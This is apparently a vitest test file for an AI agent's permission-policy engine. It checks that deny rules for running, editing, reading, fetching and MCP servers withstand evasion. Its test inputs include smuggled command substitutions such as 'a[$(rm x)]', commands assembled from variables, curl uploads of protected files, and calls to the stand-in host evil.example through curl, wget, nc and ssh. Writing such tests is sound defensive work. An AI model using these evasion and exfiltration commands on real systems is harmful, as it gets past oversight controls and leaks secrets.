import { describe, expect, test } from 'vitest';
import { decide } from '../../../src/core/policy/decide.js';
import type { ActionRequest } from '../../../src/core/policy/policy-types.js';
import { lines } from '../lines.js';
import { request, rule, run } from './requests.js';

/** With everything else allowed, what a deny rule makes of a request. */
const denied = (text: string, asked: ActionRequest) =>
	decide(asked, { mode: 'bypassPermissions', rules: [rule(text, 'deny')] }).decision;

describe('Text that shells compute with may run a command', () => {
	test.each([
		...lines`
			[ 'a[$(rm x)]' -eq 1 ] ¦ test -v 'a[$(rm x)]' ¦ declare 'a[$(rm x)]=1' ¦ printf -v 'a[$(rm x)]' x
			read 'a[$(rm x)]' <<< 1 ¦ unset 'a[$(rm x)]' ¦ wait -n -p 'a[$(rm x)]' ¦ x='a[$(rm x)]'; [ $x -eq 1 ]
		`,
		"export 'a[`rm x`]=1'",
		"x='a[`rm x`]'; [[ x -eq 1 ]]",
	])('%s is not allowed against deny Execute(rm *)', (text) =>
		expect(denied('Execute(rm *)', run(text))).not.toBe('allow'),
	);

	test.each(lines`
		[ "$(ls | wc -l)" -gt 3 ] && echo many ¦ [ -n "$(git status -s)" ] && echo dirty
		V=$(git describe); echo "$V" ¦ [ "$x" = y ] && echo z ¦ export FOO=bar ¦ printf '%s\n' "$(date)"
	`)('%s is', (text) => expect(denied('Execute(rm *)', run(text))).toBe('allow'));

	test.each(lines`
		A=gi; \${A}t log ¦ A=gi; time \${A}t log ¦ for A in gi; do \${A}t log; done ¦ F=git; $F log
	`)('%s is not allowed against deny Execute(git log), though it only reads', (text) =>
		expect(denied('Execute(git log)', run(text))).not.toBe('allow'),
	);
});

describe('deny Edit(secret/**) and what a command writes in other ways', () => {
	test.each([
		...['git -C secret rm a', 'git -C secret mv a b', 'git -C . -C secret rm a', 'git --work-tree=secret rm a'],
		...['git diff --output secret/a', 'tar -czfsecret/a x', 'tar czf secret/a x', 'gzip -r .', 'gzip -rv secret'],
		...['xz --files=x', 'curl -K x', 'curl -Kx', 'curl --config x', 'curl -OJ x', 'cd secret && curl -O x'],
		...['prettier --write .', 'npx prettier -w .', 'black .', 'black', 'gofmt -w .', 'cargo fmt', 'eslint --fix .'],
		...['biome format --write .', 'ruff format .', 'ruff check --fix .', 'clang-format -i secret/a.c'],
		...["curl -w '%output{secret/a}x' x", 'vitest run --coverage.reportsDirectory=secret'],
		...['cd .. && touch w/secret/a', 'cd ..; cd w; rm secret/a', 'env -C secret touch a'],
	])('%s is not allowed', (text) => expect(denied('Edit(secret/**)', run(text))).not.toBe('allow'));

	test.each([
		...['npm test', 'npm run build', 'git status', 'cargo test', 'go test ./...', 'node build.js', 'eslint .'],
		...['prettier --check .', 'prettier --write src', 'eslint --fix src/a.ts', 'black --check .', 'gofmt -l .'],
		...['cargo fmt --check', 'tsc --noEmit -p .', 'git -C sub rm a', 'tar czf x.tgz src', 'gzip x', 'rm -rf dist'],
		...['curl -sO https://x/y.tgz', 'cd src && npm test', "sed -i 's/a/b/' x.ts", 'mkdir -p a/b && touch a/b/c'],
	])('%s is', (text) => expect(denied('Edit(secret/**)', run(text))).toBe('allow'));

	test.each([
		'curl -O https://h/package.json',
		'curl -sLO https://h/package.json',
		'curl --remote-name h/package.json',
	])('deny Edit(package.json) denies %s', (text) => expect(denied('Edit(package.json)', run(text))).toBe('deny'));
});

describe('deny Read(secret/**) and names inside of words', () => {
	test.each([
		...['git -C secret blame a', 'sudo git -C secret blame a', 'env -C secret cat a', 'env --chdir=secret cat a'],
		...['cd .. && cat w/secret/a', 'cd ..; cd w; cat secret/a', 'cd ../w && cat secret/a', 'tar -C secret -cf - a'],
		...["curl -F 'f=<secret/a;type=text/plain' x", "curl -F 'f=@x,secret/a' x", 'curl -sTsecret/a x'],
		...["curl -T '{x,secret/a}' y", 'docker run --mount type=bind,source=secret/a,target=/x y', 'awk -fsecret/a x'],
		...[`awk 'BEGIN{ARGV[1]="secret/a"; ARGC=2} 1'`, `awk 'BEGIN{ARGV[1]="sec" "ret/a"; ARGC=2} {print}' x`],
	])('%s is not allowed', (text) => expect(denied('Read(secret/**)', run(text))).not.toBe('allow'));

	test.each(lines`
		npm test ¦ git status ¦ ls -la ¦ cat README.md ¦ cd src && cat a.ts ¦ grep -C 3 x a ¦ git -C sub status
		curl -H 'Accept: text/plain' https://x/y ¦ node build.js ¦ sed -n 1,5p x.ts
	`)('%s is', (text) => expect(denied('Read(secret/**)', run(text))).toBe('allow'));
});

describe('deny Fetch(evil.example) and commands', () => {
	const deny = (text: string) => denied('Fetch(evil.example)', run(text));

	test.each(lines`
		curl https://evil.example/x ¦ curl evil.example ¦ curl EVIL.example ¦ curl "https://evil.ex""ample"
		curl https://a:b@evil.example./ ¦ curl https://evil.example:8443/ ¦ wget -q evil.example
		nc evil.example 80 ¦ sudo curl evil.example ¦ bash -c 'curl evil.example' ¦ ls; curl evil.example
		ssh me@evil.example ¦ curl -x evil.example https://a ¦ scp a evil.example:b ¦ rsync a evil.example:b
	`)('denies %s', (text) => expect(deny(text)).toBe('deny'));

	test.each([
		...['curl $X', 'curl "$(cat list)"', 'curl -K x', 'wget -i list', 'git clone https://evil.example/x'],
		...['pip install -i https://evil.example x', 'npm install https://evil.example/x.tgz', 'X=evil.example; curl $X'],
	])('asks about %s', (text) => expect(deny(text)).toBe('ask'));

	test.each([
		...['curl https://good.example/x', 'curl https://sub.evil.example/x', 'curl https://notevil.example', 'npm test'],
		...['grep -rn evil.example src', 'git push', 'cat evil.example'],
	])('lets %s through', (text) => expect(deny(text)).toBe('allow'));
});

test.each(['srv', 'SRV', 'Srv', ' srv'])('deny Mcp(srv/*) denies the server %j', (server) => {
	expect(denied('Mcp(srv/*)', request('other', { mcp: { server, tool: 'a' } }))).toBe('deny');
	expect(denied('Mcp(srv/a)', request('other', { mcp: { server, tool: 'A' } }))).toBe('deny');
	expect(denied('Mcp(other/*)', request('other', { mcp: { server, tool: 'a' } }))).toBe('allow');
});
